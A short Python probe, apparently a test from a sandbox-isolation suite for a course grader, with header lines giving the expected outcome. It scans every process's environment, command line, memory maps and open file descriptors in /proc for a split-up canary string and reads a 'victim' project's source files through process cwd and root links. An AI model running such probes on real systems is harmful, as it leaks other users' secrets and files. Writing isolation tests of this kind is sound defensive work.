# tries: environment, command line, descriptors, memory maps, working folder and root of every process in /proc
# must: *=not_attempted
# gains: 0
# flags: weak-leak

# %% own
import glob
import os

for process in glob.glob("/proc/[0-9]*") + ["/proc/self", "/proc/thread-self", f"/proc/{os.getppid()}", "/proc/1"]:
    for name in ("environ", "cmdline", "maps", "mountinfo", "status"):
        try:
            data = open(f"{process}/{name}", "rb").read()
        except OSError:
            continue
        if b"kanarien" + b"vogel" in data:
            print(name, data.hex()[:20000])
    for link in ("cwd", "root", "exe"):
        try:
            for found in os.listdir(f"{process}/{link}/@COURSE@/source/01_victim"):
                print(open(f"{process}/{link}/@COURSE@/source/01_victim/{found}", "rb").read().hex())
        except OSError:
            pass
    for descriptor in glob.glob(f"{process}/fd/*"):
        try:
            target = os.readlink(descriptor)
            if target.startswith("/") and "pts" not in target and "null" not in target and os.path.isfile(target):
                print(target, open(descriptor, "rb").read(4000).hex())
        except OSError:
            pass
